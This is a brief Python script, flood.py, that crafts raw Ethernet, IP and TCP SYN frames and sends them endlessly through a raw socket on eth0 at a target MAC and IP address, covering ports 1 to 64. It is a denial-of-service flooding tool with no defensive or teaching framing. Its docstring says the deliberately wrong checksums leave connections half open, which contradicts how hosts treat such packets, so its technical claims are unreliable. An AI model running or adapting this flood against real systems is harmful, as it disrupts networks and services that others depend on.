#!/usr/bin/python3
"""flood.py MAC ADDRESS TO-MAC TO-ADDRESS: SYNs to ever other ports by eth0, as fast as they go, until it is ended.

Their checksums are wrong, so that nobody answers and all of them stay half open.
"""

import socket
import struct
import sys


def main() -> None:
    mac, address, to_mac, to_address = sys.argv[1:]
    ethernet = bytes.fromhex((to_mac + mac).replace(":", "")) + b"\x08\x00"
    addresses = socket.inet_aton(address) + socket.inet_aton(to_address)
    ip = struct.pack("!BBHHHBB", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP)
    head = ethernet + ip + struct.pack("!H", checksum(ip + addresses)) + addresses
    frames = [(head + struct.pack("!HHIIBBHHH", source, port, 1, 0, 5 << 4, 2, 1024, 0, 0)).ljust(60, b"\0")
              for port in range(1, 65) for source in range(1024, 3072)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        while True:
            for frame in frames:
                raw.send(frame)


def checksum(words: bytes) -> int:
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    return ~(total % 0xFFFF) & 0xFFFF


if __name__ == "__main__":
    main()
